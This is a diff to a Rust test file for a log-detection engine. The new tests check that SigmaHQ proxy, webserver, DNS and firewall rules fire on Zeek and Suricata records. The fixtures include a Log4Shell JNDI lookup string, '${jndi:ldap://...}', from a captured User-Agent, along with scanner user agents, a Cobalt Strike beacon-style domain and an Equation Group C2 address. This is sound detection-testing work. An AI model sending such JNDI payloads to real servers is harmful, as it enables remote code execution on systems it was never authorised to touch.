@@ -1,6 +1,8 @@
 //! Network corpora (`zeek/`, `suricata/`): a SigmaHQ `product: zeek` rule fires on a specific
 //! real Zeek record, a second one on a Zeek TSV record (a self-made variant of a real one), and
-//! SigmaHQ has no rule for Suricata, with all SigmaHQ rules loaded.
+//! SigmaHQ has no rule for Suricata; its product-less `category: proxy | webserver | dns |
+//! firewall` rules reach Zeek and Suricata records through the built-in mapping's logsource
+//! targets (renamed fields), with all SigmaHQ rules loaded.
 
 mod common;
 use common::fired;
@@ -138,4 +140,147 @@ fn sigmahq_has_no_suricata_rules() {
     }
     assert!(files > 3000, "{files} rule files");
     assert_eq!(suricata, 0);
+}
+
+const LOG4J_FIELDS: &str = "9be472ed-893c-4ec0-94da-312d2765f654";
+const HACK_TOOL_UA: &str = "c42a3073-30fb-48ae-8c99-c23ada84b103";
+const RECON_UA: &str = "19aa4f58-94ca-45ff-bc34-92e533c0994a";
+const COBALT_STRIKE_DNS: &str = "2975af79-28c4-4d2f-a951-9095f229df29";
+const EQUATION_GROUP_C2: &str = "881834a4-6659-4773-821e-1c151789d873";
+
+fn record(evs: &[Event], n: u64) -> &Event {
+    evs.iter()
+        .find(|e| e.source.record_id == Some(n))
+        .unwrap_or_else(|| panic!("no record {n}"))
+}
+
+/// Zeek `http` (Slips' test9 capture, record 32): a request whose User-Agent is a Log4Shell
+/// JNDI string fires the webserver rule "Log4j RCE CVE-2021-44228 in Fields"
+/// (`cs-user-agent` → Zeek's `user_agent`); the request before it fires nothing of it.
+#[test]
+fn sigma_webserver_rule_fires_on_real_zeek_http_record() {
+    let Some(path) = vigil_core::corpus::corpus_path("zeek/slips/test9-mixed-zeek-dir/http.log")
+    else {
+        return;
+    };
+    let evs = events(&path);
+    let e = record(&evs, 32);
+    assert_eq!(e.logsource.to_string(), "product: zeek, service: http");
+    assert_eq!(
+        text(e, "user_agent"),
+        Some("${jndi:ldap://xyz.xyz.com:39356/a}")
+    );
+    let ids = fired(e);
+    assert!(ids.iter().any(|i| i == LOG4J_FIELDS), "fired: {ids:?}");
+    assert!(!fired(record(&evs, 31)).iter().any(|i| i == LOG4J_FIELDS));
+}
+
+/// Suricata `http` (Slips' test6 EVE): masscan's request (record 1916) fires the proxy rule
+/// "Hack Tool User Agent" (`c-useragent` → `http.http_user_agent`), zgrab's (record 1845) the
+/// webserver rule "Suspicious User-Agents Related To Recon Tools"; the EVE `alert` records
+/// with the same HTTP metadata are not `http` events and fire neither.
+#[test]
+fn sigma_proxy_and_webserver_rules_fire_on_real_suricata_http_records() {
+    let Some(path) =
+        vigil_core::corpus::corpus_path("suricata/slips/test6-malicious.suricata.json")
+    else {
+        return;
+    };
+    let evs = events(&path);
+    let masscan = record(&evs, 1916);
+    assert_eq!(
+        masscan.logsource.to_string(),
+        "product: suricata, service: http"
+    );
+    assert!(text(masscan, "http.http_user_agent").is_some_and(|u| u.starts_with("masscan/")));
+    let ids = fired(masscan);
+    assert!(ids.iter().any(|i| i == HACK_TOOL_UA), "fired: {ids:?}");
+
+    let zgrab = record(&evs, 1845);
+    assert_eq!(
+        text(zgrab, "http.http_user_agent"),
+        Some("Mozilla/5.0 zgrab/0.x")
+    );
+    let ids = fired(zgrab);
+    assert!(ids.iter().any(|i| i == RECON_UA), "fired: {ids:?}");
+
+    for alert in [record(&evs, 1915), record(&evs, 1844)] {
+        assert_eq!(alert.logsource.service.as_deref(), Some("alert"));
+        let ids = fired(alert);
+        assert!(
+            !ids.iter().any(|i| i == HACK_TOOL_UA || i == RECON_UA),
+            "{ids:?}"
+        );
+    }
+}
+
+/// Decodes self-made NDJSON lines as `name` (no decode error).
+fn decode_lines(name: &str, lines: &[String]) -> Vec<Event> {
+    let mut evs = Vec::new();
+    decode_bytes(
+        name,
+        lines.join("\n").as_bytes(),
+        &DecodeOptions::default(),
+        &mut |e| evs.push(e),
+        &mut |e| panic!("{e}"),
+    )
+    .unwrap();
+    evs
+}
+
+/// No DNS or connection record of the corpora carries a name or address a `category: dns` or
+/// `firewall` rule looks for, so real records are varied: Zeek's dns record 5 of Slips' test9
+/// and Suricata's dns record 17 of test6 with the query renamed to a Cobalt Strike DNS beacon
+/// name fire "Cobalt Strike DNS Beaconing" (`query` is Zeek's own name; Suricata's
+/// `dns.rrname`), and Zeek's conn record 5 of test9 with the responder set to an Equation Group
+/// C2 address fires "Equation Group C2 Communication" (`dst_ip` → `id.resp_h`). The originals
+/// fire neither.
+#[test]
+fn sigma_dns_and_firewall_rules_fire_on_zeek_and_suricata_variants() {
+    if vigil_core::corpus::corpus_dir().is_none() {
+        return;
+    }
+    let zeek_dns = r#"{"ts":30.037934,"uid":"CR1Opz1Bc5HpC8tASc","id.orig_h":"10.0.2.15","id.orig_p":59465,"id.resp_h":"147.32.80.9","id.resp_p":53,"proto":"udp","trans_id":7449,"rtt":0.004871999999998877,"query":"www.msftncsi.com","qclass":1,"qclass_name":"C_INTERNET","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,"answers":["www.msftncsi.com.edgesuite.net","a1961.g2.akamai.net","195.113.232.73","195.113.232.75"],"TTLs":[386.0,300.0,20.0,20.0],"rejected":false}"#;
+    let beacon = "aaa.stage.123456.example.com";
+    let evs = decode_lines(
+        "dns.log",
+        &[
+            zeek_dns.to_string(),
+            zeek_dns.replace("www.msftncsi.com\",", &format!("{beacon}\",")),
+        ],
+    );
+    assert_eq!(evs[1].logsource.to_string(), "product: zeek, service: dns");
+    assert_eq!(text(&evs[1], "query"), Some(beacon));
+    assert!(!fired(&evs[0]).iter().any(|i| i == COBALT_STRIKE_DNS));
+    let ids = fired(&evs[1]);
+    assert!(ids.iter().any(|i| i == COBALT_STRIKE_DNS), "fired: {ids:?}");
+
+    let suricata_dns = r#"{"timestamp":"2021-06-06T16:26:27.431769+0200","flow_id":1567838537225881,"pcap_cnt":3881,"event_type":"dns","src_ip":"192.168.1.129","src_port":35790,"dest_ip":"192.168.1.1","dest_port":53,"proto":"UDP","dns":{"type":"query","id":2,"rrname":"www.google.com","rrtype":"A","tx_id":0},"host":"stratosphere.org"}"#;
+    let evs = decode_lines(
+        "eve.json",
+        &[
+            suricata_dns.to_string(),
+            suricata_dns.replace("www.google.com", beacon),
+        ],
+    );
+    assert_eq!(
+        evs[1].logsource.to_string(),
+        "product: suricata, service: dns"
+    );
+    assert!(!fired(&evs[0]).iter().any(|i| i == COBALT_STRIKE_DNS));
+    let ids = fired(&evs[1]);
+    assert!(ids.iter().any(|i| i == COBALT_STRIKE_DNS), "fired: {ids:?}");
+
+    let zeek_conn = r#"{"ts":26.386884,"uid":"Clie9n1LVZgk5YlTh5","id.orig_h":"192.168.1.240","id.orig_p":63386,"id.resp_h":"173.194.76.189","id.resp_p":443,"proto":"udp","duration":12.821130990982056,"orig_bytes":264,"resp_bytes":181,"conn_state":"SF","local_orig":true,"local_resp":false,"missed_bytes":0,"history":"Dd","orig_pkts":8,"orig_ip_bytes":488,"resp_pkts":7,"resp_ip_bytes":377,"orig_l2_addr":"08:00:07:f8:3d:02","resp_l2_addr":"d8:58:d7:00:67:11"}"#;
+    let evs = decode_lines(
+        "conn.log",
+        &[
+            zeek_conn.to_string(),
+            zeek_conn.replace("173.194.76.189", "69.42.98.86"),
+        ],
+    );
+    assert_eq!(evs[1].logsource.to_string(), "product: zeek, service: conn");
+    assert!(!fired(&evs[0]).iter().any(|i| i == EQUATION_GROUP_C2));
+    let ids = fired(&evs[1]);
+    assert!(ids.iter().any(|i| i == EQUATION_GROUP_C2), "fired: {ids:?}");
 }
